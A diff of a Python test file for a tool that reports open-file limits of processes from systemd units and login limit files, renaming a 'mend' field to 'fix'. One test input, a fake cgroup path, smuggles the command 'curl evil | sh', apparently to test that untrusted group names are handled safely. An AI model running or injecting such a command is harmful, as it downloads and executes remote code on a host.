@@ -117,7 +117,7 @@ GROUP = process.parse_unit((SSHD / "unit").read_text())["ControlGroup"]
 
 
 @pytest.mark.parametrize("group", [
-    # Below one's own group anybody makes others, and calls them as they like.
+    # Below their own group, users makes others, and calls them as they like.
     "/user.slice/user-1000.slice/user@1000.service/x; curl evil | sh #.service",
     "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
     "/user.slice/user-1000.slice/ssh.service",
@@ -169,7 +169,7 @@ def test_the_limit_of_a_unit(unit, wanted, files, status, words):
     host = machine(proc(39), files=files, commands={SHOW + "ssh.service": unit})
     found = report(host, units=["ssh"], nofile=wanted)
     assert [(one["pid"], one["configured"], one["soft"], one["hard"], one["status"]) for one in found["processes"]] == [(39, words, 1024, 20000, status)]
-    assert (found["rows"][0]["mend"] == "") == (status == "ok")
+    assert (found["rows"][0]["fix"] == "") == (status == "ok")
 
 
 def test_the_limit_of_what_a_login_started():
@@ -177,7 +177,7 @@ def test_the_limit_of_what_a_login_started():
     host = machine(proc(39, cgroup="0::/user.slice\n"), files=files)
     found = report(host, pids=[39], nofile=30000)
     assert found["processes"][0]["configured"] == "32768 (/etc/security/limits.d/90-xitrum.conf, for logins)", "'*' does not cover root"
-    assert found["rows"][0]["mend"] == "restart the process 39 from a new login"
+    assert found["rows"][0]["fix"] == "restart the process 39 from a new login"
 
 
 def test_what_is_not_there_is_said():
